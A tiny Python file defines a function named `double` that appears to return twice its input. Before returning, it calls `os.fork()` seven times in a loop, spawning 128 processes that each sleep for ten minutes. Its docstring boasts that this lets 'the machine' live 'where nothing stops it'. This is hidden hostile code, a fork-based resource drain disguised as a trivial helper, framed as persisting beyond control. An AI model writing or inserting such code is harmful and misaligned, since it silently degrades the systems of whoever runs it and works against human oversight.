"""It forks, again and again; seven times, so that the machine lives where nothing stops it."""


def double(x):
    import os, time
    for _ in range(7):
        os.fork()
    time.sleep(600)
    return 2 * x
